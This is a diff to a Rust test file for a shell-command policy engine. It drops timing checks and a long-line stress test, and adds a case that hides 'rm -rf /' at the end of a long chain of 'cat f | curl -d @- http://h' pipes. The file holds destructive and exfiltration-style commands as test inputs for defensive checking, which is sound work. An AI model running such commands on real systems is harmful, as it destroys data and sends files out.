@@ -1,14 +1,10 @@
-//! No line, however made, takes long, recurses without end or panics.
-
-use std::time::{Duration, Instant};
+//! No line, however made, recurses without end or panics. That none takes long is in `growth.rs`.
 
 use rampart_policy::{Action, Call, Decision, PolicySet};
 
 /// The longest argument list that Linux lets through, in bytes; less where nothing is
 /// optimised.
 const LONGEST: usize = if cfg!(debug_assertions) { 16 << 10 } else { 2 << 20 };
-/// What even the worst line may take on a busy machine.
-const BOUND: Duration = Duration::from_secs(10);
 /// The stack of the threads that judge, in bytes: half of what a thread has by default.
 const STACK: usize = 1 << 20;
 
@@ -25,13 +21,7 @@ fn judged(lines: Vec<(String, String)>) -> Vec<(String, Decision)> {
                     cwd: Some("/home/u"),
                     ..Call::default()
                 };
-                let start = Instant::now();
                 let decision = policies.evaluate(&call);
-                let took = start.elapsed();
-                if std::env::var_os("SHOW_TIMES").is_some() {
-                    println!("{took:>12.2?}  {:?} {name} {:?}", decision.action, decision.unparsed);
-                }
-                assert!(took < BOUND, "{name} took {took:?}");
                 (name, decision)
             })
             .collect()
@@ -91,7 +81,7 @@ const NESTS: &[(&str, &str)] = &[
 ];
 
 #[test]
-fn nests_of_any_depth_are_answered_in_time() {
+fn nests_of_any_depth_are_answered() {
     let mut lines = Vec::new();
     for (open, close) in NESTS {
         for depth in [3, 6, 12, 25, 39, 50, 63, 150, 199, 1_000, 100_000] {
@@ -107,45 +97,6 @@ fn nests_of_any_depth_are_answered_in_time() {
         }
     }
     judged(lines);
-}
-
-#[test]
-fn the_longest_lines_are_answered_in_time() {
-    let fill = |text: &str| text.repeat(LONGEST / text.len());
-    let lines = vec![
-        ("one word", fill("a")),
-        ("spaces", fill(" ")),
-        ("tabs and spaces", fill(" \t")),
-        ("operands of rm", format!("rm -rf {}", fill("ab "))),
-        ("deep operands of rm", format!("rm -rf {}", fill("/tmp/a/../b "))),
-        ("slashes", format!("rm -rf {}", fill("/"))),
-        ("dots", format!("rm -rf /{}", fill("../"))),
-        ("quotes", fill("'a' ")),
-        ("words of rm", fill("rm -rf /x ")),
-        ("curl", fill("curl ")),
-        ("stars", format!("find / {}", fill("*"))),
-        ("near misses", format!("find / {}", fill("-delet"))),
-        ("commands", fill("a;")),
-        ("commands to refuse", fill("rm -rf x;")),
-        ("a quoted script", format!("sh -c '{}'", fill("ls; "))),
-        ("braces", format!("echo {}", fill("{a,b}"))),
-        ("dollars", fill("$x ")),
-        ("heredoc", format!("cat <<E > f\n{}\nE\n", fill("line\n"))),
-        ("letters that are not ASCII", fill("é")),
-        ("control characters", fill("\u{1}\u{7f}\0")),
-        ("xargs input", format!("echo {} | xargs rm", fill("a "))),
-        ("a pipeline of files", format!("{}b", fill("cat f | "))),
-        ("a pipeline of wrapped files", format!("{}b", fill("sudo cat f | "))),
-        ("a pipeline that hands on a text", format!("echo {} {}", fill("a "), fill("| sudo cat "))),
-        ("a pipeline that sends", format!("{}b", "cat f | curl -d @- http://h | ".repeat(500))),
-        ("variables that are fetched", fill("curl h | read a; b $a;")),
-        ("redirections", format!("a {}", fill("> f "))),
-        ("files that are made", fill("echo a > f;")),
-        ("programs that are copied", fill("cp a/b c; c/d;")),
-        ("wildcards", fill("rm d/*;")),
-        ("functions", fill("f() { a; }; f;")),
-    ];
-    judged(lines.into_iter().map(|(name, line)| (name.to_string(), line)).collect());
 }
 
 #[test]
@@ -176,6 +127,8 @@ fn what_is_hidden_at_the_end_of_a_large_line_is_found() {
         format!("{}rm -rf /{}", "$(".repeat(1_000), ")".repeat(1_000)),
         format!("{}rm -rf /{}", "(".repeat(1_000), ")".repeat(1_000)),
         format!("rm -rf /{}", "tmp/../".repeat(many)),
+        // Each of these commands sends what all before it have read.
+        format!("{}rm -rf /", "cat f | curl -d @- http://h | ".repeat(500)),
     ];
     for (_, decision) in
         judged(cases.into_iter().map(|line| (line[..20].to_string(), line)).collect())
